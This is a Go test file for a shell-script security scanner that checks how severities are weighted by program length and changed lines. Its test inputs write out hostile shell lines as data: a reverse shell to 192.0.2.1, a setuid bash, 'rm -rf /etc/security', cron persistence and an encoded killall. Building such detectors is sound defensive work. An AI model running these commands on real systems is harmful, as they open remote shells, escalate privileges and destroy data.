package static_test

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/static"
)

// script is some lines among so many others that nothing is to be said of.
func script(others int, lines ...string) string {
	var b strings.Builder
	b.WriteString("#!/bin/sh\n\n# What it does, at length.\n")
	for i := range others / 2 {
		fmt.Fprintf(&b, "make step%d\n", i)
	}
	for _, l := range lines {
		b.WriteString(l + "\n")
	}
	for i := range others - others/2 {
		fmt.Fprintf(&b, "make check%d\n\n", i)
	}
	return b.String()
}

func TestWeakSignsCountByTheLengthOfTheProgram(t *testing.T) {
	const kill, user, read = "killall worker", "useradd worker", "cat /etc/worker.conf"
	for _, c := range []struct {
		name    string
		text    string
		changed gate.LineSet
		rule    string
		want    gate.Severity
	}{
		{"one in a short program", script(29, kill), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
		{"one in a longer program", script(30, kill), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
		{"several of one kind in a longer program", script(50, kill, "killall server", "killall client"), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
		{"one act of two kinds, twice", script(50, "echo a > /etc/cron.d/a", "echo b > /etc/cron.d/b"), gate.LineSet{}, "persistence/shell-start-file", gate.SeverityNote},
		{"two kinds on one line", script(50, kill+"; "+read), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
		{"two kinds in a very long program", script(300, kill, user), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
		{"one that a small change adds to a long program", script(300, kill), gate.OnlyLines(gate.LineRange{150, 160}), "process/shell-kill", gate.SeveritySuspicious},
		{"one in a large change", script(300, kill), gate.OnlyLines(gate.LineRange{100, 150}, gate.LineRange{160, 170}), "process/shell-kill", gate.SeverityNote},
		{"beside what is dangerous", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), gate.LineSet{}, "reverse-shell/shell-device", gate.SeverityDangerous},
		{"one that more is known about", script(300, "chmod u+s /bin/bash"), gate.LineSet{}, "privilege/shell-permissions", gate.SeverityDangerous},
		{"one whose path stands in a variable", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", gate.LineSet{}, "file-write/shell-system-file", gate.SeverityNote},
		{"one that can't be undone", script(300, "rm -rf /etc/security"), gate.LineSet{}, "deletion/shell-system-file", gate.SeveritySuspicious},
		{"one that is encoded", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := run(t, newScanner(t, nil), fstest.MapFS{"a.sh": {Data: []byte(c.text)}},
				&gate.Target{Path: "a.sh", Language: gate.LanguageShell, Kind: gate.ChangeModified, Lines: c.changed})
			for _, f := range o.found["a.sh"] {
				if f.Rule == c.rule {
					if f.Severity != c.want {
						t.Errorf("%s on line %d is %s, want %s", f.Rule, f.Line, f.Severity, c.want)
					}
					return
				}
			}
			t.Errorf("%s found nothing", c.rule)
		})
	}
}

func TestASeverityOfThePolicyIsNotWeighed(t *testing.T) {
	s := newScanner(t, func(p *gate.Policy) {
		p.Rules.Severity = map[string]gate.Severity{"process/shell-kill": gate.SeveritySuspicious}
	})
	o := run(t, s, fstest.MapFS{"a.sh": {Data: []byte(script(300, "killall worker"))}}, &gate.Target{Path: "a.sh", Language: gate.LanguageShell})
	if found := o.found["a.sh"]; len(found) != 1 || found[0].Severity != gate.SeveritySuspicious {
		t.Errorf("found %v, want one suspicious finding", found)
	}
}

func TestOnlyASuspiciousRuleWithAMatcherCanBeWeak(t *testing.T) {
	own := gate.DefaultPolicy()
	own.Rules.Dirs = []string{"own"}
	rules := "rules:\n  - {id: own/a, severity: note, weak: true, title: t, why: w, instead: i, patterns: ['\\bfrobnicate\\b']}\n"
	_, err := static.New(static.Options{Policy: own, UserRules: []static.RuleSource{{Name: "own", FS: fstest.MapFS{"rules.yaml": {Data: []byte(rules)}}}}})
	if err == nil || !strings.Contains(err.Error(), "own/rules.yaml:2:5: the rule \"own/a\" can't be weak") {
		t.Errorf("the error is %v", err)
	}
}
